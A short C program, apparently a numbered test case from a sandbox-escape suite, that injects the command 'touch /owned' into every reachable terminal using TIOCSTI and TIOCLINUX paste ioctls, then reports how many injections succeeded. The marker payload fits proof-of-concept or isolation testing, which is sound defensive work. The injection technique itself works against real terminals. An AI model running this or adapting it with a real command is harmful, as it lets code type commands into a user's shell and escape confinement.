// A33 / T44: types a command into every terminal it can reach: its controlling
// one, and stdin, stdout and stderr. Says how many bytes went in.

#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void)
{
	int terminals[4] = { 0, 1, 2, open("/dev/tty", O_RDWR | O_NOCTTY) }, injected = 0;
	for (int index = 0; index < 4; index++) {
		char paste[2] = { 3, 0 }; // TIOCL_PASTESEL of a virtual console.
		for (const char *byte = "touch /owned\n"; *byte; byte++)
			injected += ioctl(terminals[index], TIOCSTI, byte) == 0;
		injected += ioctl(terminals[index], TIOCLINUX, paste) == 0;
	}
	printf("injected %d\n", injected);
	return 0;
}
